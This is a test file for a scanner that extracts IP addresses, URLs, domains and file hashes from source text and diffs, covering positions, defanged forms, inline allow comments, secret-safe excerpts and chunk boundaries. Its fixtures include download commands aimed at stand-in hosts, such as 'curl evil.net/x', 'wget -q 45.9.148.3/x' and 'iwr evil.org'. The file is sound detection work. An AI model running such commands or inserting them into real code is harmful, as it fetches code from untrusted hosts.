import { describe, expect, it } from 'vitest';
import { createExtractor } from '../../../src/extract/extract.ts';
import type { AddedFile, Found } from '../../../src/model.ts';
import { binaryString, extracted, extractedBinary, FILE, LINE, names, places } from './extracting.ts';

describe('the place of an indicator', () => {
  it.each([
    ['first line', '8.8.8.8', ['ip 8.8.8.8 1:1']],
    ['later line', 'a\nb\n  8.8.8.8\n', ['ip 8.8.8.8 3:3']],
    ['two on a line', '8.8.8.8 9.9.9.9', ['ip 8.8.8.8 1:1', 'ip 9.9.9.9 1:9']],
    [
      'behind a quote in a password: once',
      `"https://good.com'x@8.8.8.8/x"`,
      ['ip 8.8.8.8 1:21', 'url https://8.8.8.8/x 1:2', 'url https://good.com/ 1:2'],
    ],
    ['twice on a line', '8.8.8.8 8.8.8.8', ['ip 8.8.8.8 1:1', 'ip 8.8.8.8 1:9']],
    ['on several lines', '8.8.8.8\n8.8.8.8\n', ['ip 8.8.8.8 1:1', 'ip 8.8.8.8 2:1']],
    ['behind two-byte letters', 'ééé 8.8.8.8', ['ip 8.8.8.8 1:5']],
    ['behind three-byte letters', '世界 8.8.8.8', ['ip 8.8.8.8 1:4']],
    ['behind four-byte signs', '🎯🎯 8.8.8.8', ['ip 8.8.8.8 1:4']],
    ['behind combining marks', 'e\u0301 8.8.8.8', ['ip 8.8.8.8 1:4']],
    ['behind a tab', '\t8.8.8.8', ['ip 8.8.8.8 1:2']],
    ['behind a carriage return, which ends no line', 'a\r8.8.8.8', ['ip 8.8.8.8 1:3']],
    ['behind other separators, which end no line', 'a\u2028\u0085\u000b8.8.8.8', ['ip 8.8.8.8 1:5']],
    ['in a CRLF file', 'a\r\n8.8.8.8\r\n9.9.9.9\r\n', ['ip 8.8.8.8 2:1', 'ip 9.9.9.9 3:1']],
    ['behind empty lines', '\n\n\n8.8.8.8', ['ip 8.8.8.8 4:1']],
    ['of a URL', 'é http://evil.net/x', ['url http://evil.net/x 1:3']],
    ['of a prefixed URL', 'git+https://evil.net/x', ['url https://evil.net/x 1:5']],
    ['of a host taken as a URL', 'see www.evil.net.', ['url http://www.evil.net/ 1:5']],
    [
      'of a host right behind a word',
      '访问www.evil.net，𠀀www.evil.net',
      ['url http://www.evil.net/ 1:17', 'url http://www.evil.net/ 1:3'],
    ],
    ['of an address and the URL on it', 'x http://8.8.8.8/', ['ip 8.8.8.8 1:10', 'url http://8.8.8.8/ 1:3']],
    [
      'of an address behind a URL',
      'http://a.co/é?b 8.8.8.8',
      ['ip 8.8.8.8 1:17', 'url http://a.co/%C3%A9?b 1:1'],
    ],
    ['of an address in what is not a URL', 'é http://é.nosuch/?8.8.8.8', ['ip 8.8.8.8 1:20']],
  ])('%s', async (_name, text, expected) => {
    expect(places(await extracted(text)).sort()).toEqual(expected);
  });

  it('counts from the line that the piece begins with', async () => {
    expect(places(await extracted('a\n8.8.8.8', { line: 41 }))).toEqual(['ip 8.8.8.8 42:1']);
  });

  it('what begins a line of a patch is read as in the file', async () => {
    const text = [
      'curl evil.net/x',
      'wget -q 45.9.148.3/x',
      'iwr evil.org',
      'Chrome/4.5.6.7',
      '^4.5.6.7',
      '',
    ];
    const plain = places(await extracted(text.join('\n')));
    const marked = places(
      await extracted(text.join('\n+').replace(/^/, '+').replace(/\+$/, ''), { marked: true }),
    );
    expect(plain).toHaveLength(4);
    expect(marked).toEqual(plain);
  });

  it("leaves the diff's mark out of the line", async () => {
    const found = await extracted('+8.8.8.8\n+a 9.9.9.9\n+\n++1.1.1.1\n', { marked: true });
    expect(places(found)).toEqual(['ip 8.8.8.8 1:1', 'ip 9.9.9.9 2:3', 'ip 1.1.1.1 4:2']);
    expect(found[0]?.occurrences[0]?.excerpt).toEqual({ text: '8.8.8.8', start: 0, length: 7 });
  });

  it('keeps path, its bytes and the commit', async () => {
    const file = { path: 'a\uFFFD', pathBytes: 'Yf8=', commit: 'c0ffee', oid: 'b10b' };
    const extractor = createExtractor({ checks: ['ips'] });
    extractor.text(file, { ...LINE, line: 7, text: '8.8.8.8\n' });
    const [found] = await extractor.finish();
    expect(found?.occurrences[0]?.location).toEqual({
      path: 'a\uFFFD',
      pathBytes: 'Yf8=',
      line: 7,
      column: 1,
      commit: 'c0ffee',
    });
  });

  it('counts broken UTF-8 as a decoder shows it', async () => {
    for (const broken of [
      '\xff',
      '\x80\x80',
      '\xe4\xb8',
      '\xf0\x9f\x8e',
      '\xc3',
      '\xed\xa0\x80',
      '\xf4\x90\x80\x80',
      '\xc0\xaf',
    ]) {
      const shown = Buffer.from(broken, 'latin1').toString('utf8');
      const found = await extractedBinary(`${broken} 8.8.8.8`);
      expect(found[0]?.occurrences[0]?.location.column).toBe([...shown].length + 2);
    }
  });
});

describe('what is one indicator', () => {
  it('brings every way to write it together, in the order of its places', async () => {
    const [found, ...others] = await extracted(
      'HTTP://EVIL.net/x\nhxxp://evil[.]net/x\nhttp://evil.net/x#part\n',
    );
    expect(others).toEqual([]);
    expect(found?.indicator).toEqual({ type: 'url', value: 'http://evil.net/x' });
    expect(found?.written).toBe('HTTP://EVIL.net/x');
    expect(found?.occurrences.map(({ location }) => location.line)).toEqual([1, 2, 3]);
  });

  it('is an address wherever it stands', async () => {
    const found = await extracted('http://8.8.8.8/x 8.8.8.8 8[.]8[.]8[.]8 ::ffff:8.8.8.8');
    const ip = found.find(({ indicator }) => indicator.type === 'ip');
    expect(ip?.occurrences.map(({ location }) => location.column)).toEqual([8, 18, 26, 40]);
    expect(names(found)).toEqual(['ip 8.8.8.8', 'url http://8.8.8.8/x']);
  });

  it('comes in the order in which it was found', async () => {
    const found = await extracted('9.9.9.9 http://evil.net/ 8.8.8.8 9.9.9.9');
    expect(found.map(({ indicator }) => indicator.value)).toEqual(['9.9.9.9', 'http://evil.net/', '8.8.8.8']);
  });
});

describe('the excerpt', () => {
  async function excerpts(text: string): Promise<string[]> {
    const found = await extracted(text);
    return found.flatMap(({ occurrences }) =>
      occurrences.flatMap(({ excerpt }) =>
        excerpt === null
          ? []
          : [`${excerpt.text}|${excerpt.text.slice(excerpt.start, excerpt.start + excerpt.length)}`],
      ),
    );
  }

  it('shows no part of a secret that begins or ends far away', async () => {
    const key = 'aB3dE5gH7jK9'.repeat(60);
    const lines = [
      `password = "${'hunter2 '.repeat(30)}", host = "8.8.8.8"`,
      `{"data":"${key}8.8.8.8`,
      `private = ${key}; host = "8.8.8.8"`,
      `http://me:${'pw-'.repeat(50)}@8.8.8.8/`,
      `x="${key}" curl -H 'Authorization: Bearer ${key}' 8.8.8.8`,
    ];
    for (const text of await excerpts(lines.join('\n'))) expect(text).not.toMatch(/hunter|B3d|pw-/);
  });

  it('holds the line and marks the indicator as written', async () => {
    expect(await excerpts('no\nconst é = "hxxp://evil[.]net/x"; // 🎯\nno')).toEqual([
      'const é = "hxxp://evil[.]net/x"; // 🎯|hxxp://evil[.]net/x',
    ]);
  });

  it('is clipped on a long line, between characters', async () => {
    const [excerpt = ''] = await excerpts(`${'é'.repeat(5000)} 8.8.8.8 ${'世'.repeat(5000)}`);
    const [text = '', written] = excerpt.split('|');
    expect(written).toBe('8.8.8.8');
    expect(text).not.toContain('\uFFFD');
    expect(text.length).toBeLessThan(220);
    expect(text).toMatch(/^é+ 8\.8\.8\.8 世+$/);
  });

  it('is kept for the first five places', async () => {
    const [found] = await extracted('8.8.8.8\n'.repeat(9));
    expect(found?.occurrences).toHaveLength(9);
    expect(found?.occurrences.map(({ excerpt }) => excerpt !== null)).toEqual([
      ...new Array(5).fill(true),
      ...new Array(4).fill(false),
    ]);
  });

  it('marks the address inside of what is not a URL', async () => {
    expect(await excerpts('x http://é.nosuch/?8.8.8.8')).toEqual(['x http://é.nosuch/?8.8.8.8|8.8.8.8']);
  });

  it('marks the address of a URL', async () => {
    const found = await extracted('x http://8.8.8.8/y');
    const ip = found.find(({ indicator }) => indicator.type === 'ip');
    expect(ip?.occurrences[0]?.excerpt).toEqual({ text: 'x http://8.8.8.8/y', start: 9, length: 7 });
  });
});

describe('the inline rule', () => {
  it.each([
    ['8.8.8.8 // anteater:allow public resolver', ['public resolver']],
    ['/* anteater:allow public resolver */ 8.8.8.8', ['public resolver */ 8.8.8.8']],
    ['8.8.8.8 /* anteater:allow public resolver */', ['public resolver']],
    ['8.8.8.8 <!-- anteater:allow public resolver -->', ['public resolver']],
    ['8.8.8.8 # anteater:allow: public resolver\r', ['public resolver']],
    ['8.8.8.8 # anteater:allow', ['']],
    ['8.8.8.8 # anteater:allow   ', ['']],
    ['8.8.8.8 # anteater:allow für Tests', ['für Tests']],
    ['8.8.8.8 9.9.9.9 # anteater:allow both', ['both', 'both']],
    ['8.8.8.8 # anteater:allowed', [null]],
    ['8.8.8.8 # anteater:allow-list', [null]],
    ['8.8.8.8 # anteater: allow', [null]],
    ['8.8.8.8 # anteater:allowed anteater:allow really', ['really']],
    ['8.8.8.8 # anteater:allow one anteater:allow two', ['one anteater:allow two']],
    ['8.8.8.8\n9.9.9.9 # anteater:allow second', [null, 'second']],
    ['8.8.8.8 # anteater:allow first\n9.9.9.9', ['first', null]],
    ['# anteater:allow above\n8.8.8.8', [null]],
    ['8.8.8.8\n# anteater:allow below', [null]],
    ['a\n8.8.8.8 # anteater:allow a\nb\n9.9.9.9 # anteater:allow b\n', ['a', 'b']],
  ])('%j: %j', async (text, expected) => {
    const found = await extracted(text);
    expect(found.flatMap(({ occurrences }) => occurrences.map(({ allowed }) => allowed))).toEqual(expected);
  });

  it('counts for what stood in earlier pieces of its line', async () => {
    const filler = 'x '.repeat(80_000);
    const text = `9.9.9.9\n8.8.8.8 ${filler}http://evil.net/ ${filler}# anteater:allow far away\n1.1.1.1`;
    const cuts = Array.from({ length: 20 }, (_, index) => index * 20_000);
    const found = await extracted(text, { cuts });
    const allowed = found.map(({ indicator, occurrences }) => [indicator.value, occurrences[0]?.allowed]);
    expect(allowed).toEqual([
      ['9.9.9.9', null],
      ['8.8.8.8', 'far away'],
      ['http://evil.net/', 'far away'],
      ['1.1.1.1', null],
    ]);
  });

  it('ends with its line when the next piece begins another one', async () => {
    const extractor = createExtractor({ checks: ['ips'] });
    extractor.text(FILE, { ...LINE, text: '8.8.8.8 ', endsMidLine: true });
    extractor.text(FILE, { ...LINE, line: 9, text: '# anteater:allow no\n' });
    const [found] = await extractor.finish();
    expect(found?.occurrences[0]?.allowed).toBeNull();
  });
});

describe('a line in pieces', () => {
  const long = 'lorem ipsum, '.repeat(9000);

  it.each([
    ['an address', '203.0.114.9', 'ip 203.0.114.9'],
    ['an IPv6 address', '2001:4860:4860::8888', 'ip 2001:4860:4860::8888'],
    ['a URL', 'https://evil.net/a/path?with=query', 'url https://evil.net/a/path?with=query'],
    ['a defanged URL', 'hxxps[:]//evil[.]net/a', 'url https://evil.net/a'],
    [
      'a URL with letters of other scripts',
      'http://bücher.de/日本',
      'url http://xn--bcher-kva.de/%E6%97%A5%E6%9C%AC',
    ],
  ])('%s at every seam', async (_name, written, expected) => {
    const text = `${long}"${written}"${long}`;
    const begin = long.length;
    for (let cut = begin - 2; cut <= begin + Buffer.byteLength(written) + 3; cut += 1) {
      const found = await extracted(text, { cuts: [cut] });
      expect(names(found)).toEqual([expected]);
      expect(found[0]?.occurrences[0]?.location).toMatchObject({ line: 1, column: begin + 2 });
    }
  });

  it.each([
    ['an address', '8.8.8.8'],
    ['an IPv6 address', '2001:4860:4860::8888'],
    ['a URL', 'https://evil.net/a'],
    ['an escaped URL', String.raw`https:\u002F\u002Fevil.net/a`],
    ['a host of www', 'www.evil.net/a'],
    ['a URL without its scheme', '"//evil.net/a.js"'],
    ['a defanged address', '8[.]8[.]8[.]8'],
    ['an operand', 'curl -s evil.net/a'],
    ['an operand of PowerShell', 'Invoke-RestMethod.exe evil.net/a'],
    ['a URL between letters of other scripts', 'é "https://evil.net/a" é'],
    ['a URL and an inline rule', '"https://evil.net/a" anteater:allow known'],
    ['an inline rule', 'anteater:allow known', '8.8.8.8 '],
    ['an inline rule with a long reason', `anteater:allow ${'known '.repeat(15)}`, '8.8.8.8 '],
    ['a letter of several bytes', '𝄞', '', '8.8.8.8'],
  ])(
    '%s behind pieces of a line that hold nothing, at every seam',
    async (_name, written, before = '', after = '') => {
      const filler = 'lorem ipsum; '.repeat(15_000);
      const begin = before.length + filler.length;
      const text = binaryString(`${before}${filler}${written} ${filler}${after}`);
      const whole = await extractedBinary(text);
      expect(names(whole)).toHaveLength(1);
      const even = Array.from({ length: 20 }, (_, index) => index * 50_000);
      for (let seam = begin - 2; seam <= begin + written.length + 16; seam += 1) {
        const cuts = [...even.filter((at) => Math.abs(at - seam) > 40_000), seam];
        expect(await extractedBinary(text, { cuts }), `cut at ${seam - begin}`).toEqual(whole);
      }
    },
  );

  it('does not make an address of two', async () => {
    const found = await extracted(`${long}1.2.3.4.5 v8.8.8.8${long}`, {
      cuts: [long.length + 7, long.length + 11],
    });
    expect(found).toEqual([]);
  });

  it('is a command that goes on behind the end of a chunk', async () => {
    const command = '+curl -sSL \\\n+  evil-host.net/x\n';
    const whole = await extracted(command, { marked: true });
    expect(places(whole)).toEqual(['url http://evil-host.net/x 2:3']);
    for (let cut = 1; cut < command.length; cut += 1)
      expect(await extracted(command, { marked: true, cuts: [cut] }), `cut at ${cut}`).toEqual(whole);
    const extractor = createExtractor({ checks: ['urls'] });
    extractor.text(FILE, { ...LINE, text: 'curl -sSL \\\n' });
    extractor.text(FILE, { ...LINE, line: 9, text: 'evil-host.net/x\n' });
    expect(await extractor.finish()).toEqual([]);
  });

  it('tells the line behind it', async () => {
    const found = await extracted(`a\n${long}\n${long}8.8.8.8 ${long}\n9.9.9.9`, {
      cuts: [30_000, 100_000, 150_000, 300_000],
    });
    expect(places(found)).toEqual([`ip 8.8.8.8 3:${long.length + 1}`, 'ip 9.9.9.9 4:1']);
  });

  it('is another line in another file', async () => {
    const extractor = createExtractor({ checks: ['ips'] });
    extractor.text(FILE, { ...LINE, text: '8.8.', endsMidLine: true });
    const other = { ...FILE, path: 'b' };
    extractor.text(other, { ...LINE, text: '8.8 9.9.9.9\n', startsMidLine: true });
    expect(names(await extractor.finish())).toEqual(['ip 9.9.9.9']);
  });

  it('may end without its end', async () => {
    const extractor = createExtractor({ checks: ['ips'] });
    extractor.text(FILE, { ...LINE, text: '8.8.8.8', endsMidLine: true });
    expect(names(await extractor.finish())).toEqual(['ip 8.8.8.8']);
  });
});

describe('checks', () => {
  const text = 'http://8.8.8.8/x http://evil.net/ 9.9.9.9';
  const file: AddedFile = { file: FILE, sha256: 'ab'.repeat(32), size: 3, open: null };

  it.each([
    [['ips'], ['ip 8.8.8.8', 'ip 9.9.9.9']],
    [['urls'], ['url http://8.8.8.8/x', 'url http://evil.net/']],
    [['binaries'], [`file ${'ab'.repeat(32)}`]],
    [
      ['ips', 'urls'],
      ['ip 8.8.8.8', 'ip 9.9.9.9', 'url http://8.8.8.8/x', 'url http://evil.net/'],
    ],
    [[], []],
  ] as const)('%j: %j', async (checks, expected) => {
    const extractor = createExtractor({ checks });
    extractor.text(FILE, { ...LINE, text });
    extractor.binary(file);
    expect(names(await extractor.finish())).toEqual(expected);
  });

  it('are found in text that comes before what reads it is loaded', async () => {
    const extractor = createExtractor({ checks: ['ips', 'urls', 'binaries'] });
    for (const text of ['const a = 1;\n', 'b 8.8.8.8\n', 'const c = 1;\n'])
      extractor.text(FILE, { ...LINE, text });
    await Promise.resolve();
    extractor.text(FILE, { ...LINE, text: 'd 9.9.9.9\n' });
    expect(names(await extractor.finish())).toEqual(['ip 8.8.8.8', 'ip 9.9.9.9']);
  });
});

describe('what is not sent whole', () => {
  const secret = 'https://evil.net/x?token=abcdef0123456789';

  it.each([
    ['a secret in the query', 'a.ts', secret, ['url https://evil.net/x']],
    ['a secret in the path', 'a.ts', 'https://evil.net/token=abcdef0123456789/x', ['domain evil.net']],
    [
      'a secret in path and query',
      'a.ts',
      'https://evil.net/token=abcdef0123456789/x?token=abcdef0123456789',
      ['domain evil.net'],
    ],
    [
      'a secret and none',
      'a.ts',
      `${secret} https://evil.net/y`,
      ['url https://evil.net/x', 'url https://evil.net/y'],
    ],
    ['a secret on an address', 'a.ts', 'http://8.8.8.8/token=abcdef0123456789/x', ['ip 8.8.8.8']],
    [
      'a private host in the query',
      'a.ts',
      'https://evil.net/x?u=http://10.1.2.3/y',
      ['url https://evil.net/x'],
    ],
    ['a private host in the path', 'a.ts', 'https://evil.net/http://wiki.corp/y', ['domain evil.net']],
    ['a lockfile', 'a/yarn.lock', '  resolved "https://evil.net./a"', ['domain evil.net']],
    ['a lockfile with an address', 'yarn.lock', '  resolved "http://8.8.8.8/a"', ['ip 8.8.8.8']],
    ['a page of a forge', 'a.ts', 'https://github.com/acme/x/issues/12', ['domain github.com']],
  ])('%s', async (_name, path, text, expected) => {
    const found = await extracted(text, { path });
    expect(found.map((one) => `${one.indicator.type} ${one.indicator.value}`)).toEqual(expected);
  });

  it('is sent where it stands elsewhere', async () => {
    const extractor = createExtractor({ checks: ['urls'] });
    for (const path of ['yarn.lock', 'src/a.ts']) {
      extractor.text({ ...FILE, path }, { ...LINE, text: 'resolved "https://evil.net/a"\n' });
    }
    const found = await extractor.finish();
    expect(found.map((one) => [one.indicator.value, one.occurrences[0]?.location.path])).toEqual([
      ['evil.net', 'yarn.lock'],
      ['https://evil.net/a', 'src/a.ts'],
    ]);
  });

  it('stands for its address even where addresses are not checked', async () => {
    const found = await extracted('http://8.8.8.8/token=abcdef0123456789/x', { checks: ['urls'] });
    expect(names(found)).toEqual(['ip 8.8.8.8']);
  });
});

describe('binaries', () => {
  async function binaries(...files: AddedFile[]): Promise<readonly Found[]> {
    const extractor = createExtractor({ checks: ['binaries'] });
    for (const file of files) extractor.binary(file);
    return extractor.finish();
  }
  const open = async function* (): AsyncIterable<Uint8Array> {
    yield new Uint8Array(1);
  };
  const at = (path: string, more: Partial<AddedFile> = {}): AddedFile => ({
    file: { ...FILE, path },
    sha256: 'ab'.repeat(32),
    size: 3,
    open: null,
    ...more,
  });

  it('are files, with their content and no line', async () => {
    const file = at('logo.png');
    expect(await binaries(file)).toEqual([
      {
        indicator: { type: 'file', value: 'ab'.repeat(32) },
        occurrences: [
          {
            location: { path: 'logo.png', pathBytes: null, line: null, column: null, commit: null },
            excerpt: null,
            allowed: null,
          },
        ],
        written: 'logo.png',
        content: file,
      },
    ]);
  });

  it('of the same content are one, its content from where it is at hand', async () => {
    const copy = at('b.png', { open });
    const found = await binaries(at('a.png'), copy, at('c.png', { sha256: 'cd'.repeat(32) }));
    expect(found.map(({ occurrences }) => occurrences.map(({ location }) => location.path))).toEqual([
      ['a.png', 'b.png'],
      ['c.png'],
    ]);
    expect(found[0]?.content).toBe(copy);
  });

  it('that are empty are none', async () => {
    expect(await binaries(at('empty', { size: 0 }))).toEqual([]);
  });
});

describe('the text', () => {
  it('may be empty', async () => {
    expect(await extracted('')).toEqual([]);
  });

  it('may hold NUL', async () => {
    expect(names(await extractedBinary(`\0${binaryString('8.8.8.8')}\0`))).toEqual(['ip 8.8.8.8']);
  });
});
